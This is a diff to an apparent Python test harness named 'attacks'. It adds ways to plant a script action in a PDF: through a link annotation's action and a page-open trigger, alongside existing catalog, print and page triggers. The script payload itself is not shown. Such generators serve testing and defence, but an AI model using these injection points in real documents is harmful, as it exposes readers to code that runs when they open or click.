@@ -167,6 +167,15 @@ def add_to_page(entry):
     return change
 
 
+def add_to_annotation(entry):
+    """On the box of another field, or on a link, which anyone may press."""
+    def change(data):
+        page, n = attacks.page(data), attacks.trailer(data)["size"]
+        note = b"<< /Type /Annot /Subtype /Link /Rect [ 10 10 20 20 ] /F 4 " + entry + b" >>"
+        return attacks.update(data, {page: attacks.extend_annotation(attacks.body(data, page), n), n: note})
+    return change
+
+
 def add_to_form(entry):
     def change(data):
         form = attacks.find(data, rb"/Fields \[")
@@ -182,6 +191,8 @@ PROGRAMS = {
     "names": replace_in_catalog(b"/Names <<", b"/Names << /JavaScript << /Names [ (a) " + SCRIPT + b" ] >>"),
     "printing": add_to_catalog(b"/AA << /WP " + SCRIPT + b" >>"),
     "page": add_to_page(b"/AA << /O " + SCRIPT + b" >>"),
+    "box": add_to_annotation(b"/AA << /PO " + SCRIPT + b" >>"),
+    "link": add_to_annotation(b"/A " + SCRIPT),
     "xfa": add_to_form(b"/XFA [ (a) (b) ]"),
 }
 
